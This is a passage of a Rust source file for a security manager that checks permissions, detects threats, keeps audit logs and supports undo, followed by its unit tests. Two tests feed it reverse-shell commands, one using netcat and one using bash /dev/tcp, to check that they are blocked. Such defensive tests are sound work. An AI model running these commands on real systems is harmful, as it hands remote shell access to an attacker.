            return ActionOutcome::failed(RejectionKind::Internal, message);
        }

        if let Err(e) = self.undo.record_config_change(
            "security_level",
            json!(previous),
            Some(&self.paths.config_file),
            &bound.owner(),
        ) {
            warn!("Failed to record config undo snapshot: {}", e);
        }
        self.audit_result(self.audit.log_config_change(
            &audit_ctx,
            "security_level",
            previous.as_str(),
            level.as_str(),
        ));
        ActionOutcome::ok(format!("Security level changed from {} to {}", previous, level))
    }

    /// Lift a block on `source`; requires `admin_operations`
    pub fn unblock_source(&self, ctx: &OperationContext, source: &str) -> ActionOutcome {
        if let Err(message) = self.authorize(ctx, &[Permission::AdminOperations]) {
            return ActionOutcome::failed(RejectionKind::PermissionDenied, message);
        }

        let removed = self.threats.unblock_source(source);
        self.audit_result(
            self.audit.log_event(
                self.audit
                    .event(AuditEventType::SecurityViolation)
                    .with_context(&self.bind_identity(ctx).audit_context())
                    .with_result(format!("unblock {}", source))
                    .with_risk(RiskLevel::Medium)
                    .with_outcome(removed, (!removed).then_some("source was not blocked")),
            ),
        );

        if removed {
            ActionOutcome::ok(format!("Source {} unblocked", source))
        } else {
            ActionOutcome::failed(RejectionKind::Internal, format!("Source {} was not blocked", source))
        }
    }

    /// One sweep over expired sessions, old audit lines and stale undo records
    pub fn run_housekeeping(&self) -> HousekeepingReport {
        let mut report = HousekeepingReport {
            expired_sessions: self.permissions.cleanup_expired_sessions(),
            idle_rate_windows: self.threats.prune_idle_windows(),
            ..Default::default()
        };

        match self.audit.cleanup_old_logs() {
            Ok(removed) => report.audit_events_removed = removed,
            Err(e) => warn!("Audit retention pass failed: {}", e),
        }
        match self.undo.cleanup_old_operations(UNDO_RETENTION_DAYS) {
            Ok(removed) => report.undo_operations_removed = removed,
            Err(e) => warn!("Undo cleanup failed: {}", e),
        }

        debug!("Housekeeping finished: {:?}", report);
        report
    }

    /// Spawn the housekeeping loop and the threat monitor on the current tokio runtime
    ///
    /// Returns `false` when the tasks are already running.
    pub fn start_background_tasks(self: &Arc<Self>) -> Result<bool> {
        if tokio::runtime::Handle::try_current().is_err() {
            return Err(OverseerError::config("Background tasks need a tokio runtime"));
        }

        let mut background = self.background.lock();
        if background.is_some() {
            return Ok(false);
        }

        let (shutdown, receiver) = watch::channel(false);
        let monitor = self.threats.spawn_monitor(receiver.clone());

        let manager = Arc::clone(self);
        let mut shutdown_rx = receiver;
        let housekeeping = tokio::spawn(async move {
            let mut ticker = tokio::time::interval(std::time::Duration::from_secs(HOUSEKEEPING_INTERVAL_SECS));
            ticker.tick().await;
            loop {
                tokio::select! {
                    _ = ticker.tick() => {
                        manager.run_housekeeping();
                    }
                    changed = shutdown_rx.changed() => {
                        if changed.is_err() || *shutdown_rx.borrow() {
                            break;
                        }
                    }
                }
            }
            debug!("Housekeeping loop stopped");
        });

        *background = Some(BackgroundTasks {
            shutdown,
            handles: vec![housekeeping, monitor],
        });
        info!(
            "Started background tasks (housekeeping every {}s)",
            HOUSEKEEPING_INTERVAL_SECS
        );
        Ok(true)
    }

    /// Stop the background tasks and wait for them to finish
    pub async fn stop_background_tasks(&self) {
        let Some(tasks) = self.background.lock().take() else {
            return;
        };

        let _ = tasks.shutdown.send(true);
        for handle in tasks.handles {
            if let Err(e) = handle.await {
                warn!("Background task ended abnormally: {}", e);
            }
        }
        info!("Stopped background tasks");
    }

    pub fn background_tasks_running(&self) -> bool {
        self.background.lock().is_some()
    }

    pub fn get_security_status(&self) -> SecurityStatus {
        let config = self.config.read().clone();
        SecurityStatus {
            security_level: config.security_level,
            default_permission_level: config.default_permission_level,
            sandbox_mode: config.sandbox_mode,
            users: self.permissions.list_users().len(),
            active_sessions: self.permissions.list_active_sessions(None).len(),
            blocked_sources: self.threats.blocked_sources(),
            undoable_operations: self.undo.list_undoable_operations(None, usize::MAX).len(),
            threat_detection: self.threats.get_statistics(),
            encryption: self.encryption.status(),
            audit_enabled: self.audit.is_enabled(),
            audit_log: self.audit.log_path().to_path_buf(),
            background_tasks_running: self.background_tasks_running(),
            generated_at: self.clock.now(),
        }
    }

    pub fn get_security_summary(&self, hours: u64) -> Result<SecuritySummary> {
        Ok(SecuritySummary {
            period_hours: hours,
            audit: self.audit.get_security_summary(hours)?,
            recent_threats: self.threats.recent_threats(20),
            blocked_sources: self.threats.blocked_sources(),
            active_sessions: self.permissions.list_active_sessions(None).len(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::utils::ManualClock;
    use tempfile::TempDir;

    fn manager(dir: &TempDir, clock: &ManualClock) -> SecurityManager {
        SecurityManager::with_config(
            SecurityConfig::default(),
            SecurityPaths::in_dir(dir.path()),
            clock.shared(),
        )
        .unwrap()
    }

    fn login(manager: &SecurityManager, user: &str) -> OperationContext {
        let outcome = manager.create_user_session(user, Some("127.0.0.1"));
        let session = outcome.session.unwrap();
        OperationContext::for_session(user, &session.session_id)
    }

    #[test]
    fn test_outcome_serializes_success_and_error() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);

        let outcome = manager.validate_and_execute_command("ls", &OperationContext::default());
        let value = serde_json::to_value(&outcome).unwrap();
        assert_eq!(value["success"], false);
        assert_eq!(value["rejection"], "permission_denied");
        assert!(value["error"].as_str().unwrap().contains("no active session"));
    }

    #[test]
    fn test_allowed_command_records_undo_and_policy_limits() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let ctx = login(&manager, "alice");

        let outcome = manager.validate_and_execute_command("ls -la", &ctx);
        assert!(outcome.success, "{:?}", outcome.error);
        assert!(outcome.operation_id.is_some());
        assert_eq!(outcome.timeout_seconds, Some(30));
        assert_eq!(outcome.sandbox_mode, SandboxMode::Validation);
        assert_eq!(manager.list_undoable_operations(Some("alice"), 10).len(), 1);
    }

    #[test]
    fn test_admin_command_requires_dangerous_permission() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let ctx = login(&manager, "bob");

        let outcome = manager.validate_and_execute_command("sudo apt update", &ctx);
        assert!(!outcome.success);
        assert_eq!(outcome.rejection, Some(RejectionKind::PermissionDenied));
        assert!(outcome.error.unwrap().contains("execute_dangerous_commands"));
    }

    #[test]
    fn test_critical_threat_vetoes_and_blocks_source() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let ctx = login(&manager, "mallory");

        let outcome = manager.validate_and_execute_command("nc -e /bin/sh 10.0.0.5 4444", &ctx);
        assert!(!outcome.success);
        assert_eq!(outcome.rejection, Some(RejectionKind::ThreatBlocked));
        assert!(outcome.operation_id.is_none());

        let next = manager.validate_and_execute_command("ls", &ctx);
        assert_eq!(next.rejection, Some(RejectionKind::SourceBlocked));

        let admin = {
            manager.permissions().create_user("root-admin", PermissionLevel::Admin).unwrap();
            login(&manager, "root-admin")
        };
        assert!(manager.unblock_source(&admin, "mallory").success);
        assert!(manager.validate_and_execute_command("ls", &ctx).success);
    }

    #[test]
    fn test_blocked_user_cannot_borrow_another_identity() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let mallory = login(&manager, "mallory");

        let outcome = manager.validate_and_execute_command("bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", &mallory);
        assert_eq!(outcome.rejection, Some(RejectionKind::ThreatBlocked));

        let session_id = mallory.session_id.as_deref().unwrap();
        let disguised = OperationContext::for_session("alice", session_id);
        let outcome = manager.validate_and_execute_command("ls", &disguised);
        assert!(!outcome.success);
        assert_eq!(outcome.rejection, Some(RejectionKind::SourceBlocked));
        assert!(outcome.error.unwrap().contains("mallory"));

        let file = dir.path().join("notes.txt");
        std::fs::write(&file, "x").unwrap();
        let outcome = manager.validate_file_operation(FileOperationKind::Modify, &file.to_string_lossy(), &disguised);
        assert_eq!(outcome.rejection, Some(RejectionKind::SourceBlocked));
        assert!(manager.list_undoable_operations(None, 10).is_empty());
    }

    #[test]
    fn test_session_must_match_claimed_user() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let bob = login(&manager, "bob");

        let claimed = OperationContext::for_session("alice", bob.session_id.as_deref().unwrap());
        let outcome = manager.validate_and_execute_command("ls", &claimed);
        assert_eq!(outcome.rejection, Some(RejectionKind::PermissionDenied));
        assert!(outcome.error.unwrap().contains("does not belong to alice"));
        assert!(manager.list_undoable_operations(None, 10).is_empty());

        let violations = manager
            .audit()
            .get_recent_events(1, Some(AuditEventType::SecurityViolation), Some("bob"))
            .unwrap();
        assert_eq!(violations.len(), 1);

        let unnamed = OperationContext {
            session_id: bob.session_id.clone(),
            ..Default::default()
        };
        let outcome = manager.validate_and_execute_command("ls", &unnamed);
        assert!(outcome.success, "{:?}", outcome.error);
        assert_eq!(manager.list_undoable_operations(Some("bob"), 10).len(), 1);
    }

    #[test]
    fn test_undo_requires_session_and_ownership() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let alice = login(&manager, "alice");
        let bob = login(&manager, "bob");

        let operation_id = manager
            .validate_and_execute_command("ls", &alice)
            .operation_id
            .unwrap();

        let anonymous = manager.undo_last_operation(&OperationContext::default());
        assert!(!anonymous.success);
        assert_eq!(anonymous.rejection, Some(RejectionKind::PermissionDenied));
        let anonymous = manager.undo_operation(&operation_id, &OperationContext::default());
        assert_eq!(anonymous.rejection, Some(RejectionKind::PermissionDenied));

        let foreign = manager.undo_operation(&operation_id, &bob);
        assert_eq!(foreign.rejection, Some(RejectionKind::PermissionDenied));
        assert!(foreign.error.unwrap().contains("another user"));

        // bob's own history is empty, so alice's record is untouched
        let last = manager.undo_last_operation(&bob);
        assert!(!last.success);
        assert_eq!(last.rejection, Some(RejectionKind::IrreversibleUndo));
        assert_eq!(manager.list_undoable_operations(Some("alice"), 10).len(), 1);

        manager.permissions().create_user("ops", PermissionLevel::Admin).unwrap();
        let admin = login(&manager, "ops");
        assert!(manager.undo_operation(&operation_id, &admin).success);
        assert!(manager.list_undoable_operations(Some("alice"), 10).is_empty());
    }

    #[test]
    fn test_undo_needs_capability_for_record_kind() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let alice = login(&manager, "alice");

        let operation_id = manager
            .validate_and_execute_command("pwd", &alice)
            .operation_id
            .unwrap();
        manager
            .permissions()
            .revoke_permission("alice", Permission::ExecuteCommands)
            .unwrap();
        let alice = login(&manager, "alice");

        let denied = manager.undo_operation(&operation_id, &alice);
        assert_eq!(denied.rejection, Some(RejectionKind::PermissionDenied));
        assert!(denied.error.unwrap().contains("execute_commands"));
    }

    #[test]
    fn test_security_level_change_requires_modify_security() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        let user = login(&manager, "carol");

        let denied = manager.update_security_level(&user, SecurityLevel::High);
        assert_eq!(denied.rejection, Some(RejectionKind::PermissionDenied));

        manager.permissions().create_user("admin", PermissionLevel::Admin).unwrap();
        let admin = login(&manager, "admin");
        let changed = manager.update_security_level(&admin, SecurityLevel::High);
        assert!(changed.success, "{:?}", changed.error);
        assert_eq!(manager.config().read().security_level, SecurityLevel::High);
        assert_eq!(
            SecurityConfig::load(&manager.paths().config_file).security_level,
            SecurityLevel::High
        );

        let undo = manager.undo_last_operation(&admin);
        assert!(undo.success);
        assert!(undo.warnings[0].contains("security_level"));
    }

    #[test]
    fn test_unsaved_security_level_is_rolled_back() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        manager.permissions().create_user("admin", PermissionLevel::Admin).unwrap();
        let admin = login(&manager, "admin");

        // a directory in place of the config file makes the save fail
        let config_file = &manager.paths().config_file;
        if config_file.exists() {
            std::fs::remove_file(config_file).unwrap();
        }
        std::fs::create_dir_all(config_file).unwrap();

        let before = manager.config().read().security_level;
        let outcome = manager.update_security_level(&admin, SecurityLevel::Critical);
        assert!(!outcome.success);
        assert_eq!(outcome.rejection, Some(RejectionKind::Internal));
        assert_eq!(manager.config().read().security_level, before);
        assert!(manager.list_undoable_operations(Some("admin"), 10).is_empty());
    }

    #[test]
    fn test_housekeeping_expires_sessions() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = manager(&dir, &clock);
        login(&manager, "dave");

        clock.advance_secs(3601);
        let report = manager.run_housekeeping();
        assert_eq!(report.expired_sessions, 1);
        assert_eq!(manager.get_security_status().active_sessions, 0);
    }

    #[tokio::test]
    async fn test_background_tasks_start_and_stop() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = Arc::new(manager(&dir, &clock));

        assert!(manager.start_background_tasks().unwrap());
        assert!(!manager.start_background_tasks().unwrap());
        assert!(manager.get_security_status().background_tasks_running);

        manager.stop_background_tasks().await;
        assert!(!manager.background_tasks_running());
    }

    #[test]
    fn test_background_tasks_need_runtime() {
        let dir = TempDir::new().unwrap();
        let clock = ManualClock::starting_now();
        let manager = Arc::new(manager(&dir, &clock));
        assert!(manager.start_background_tasks().is_err());
    }
}
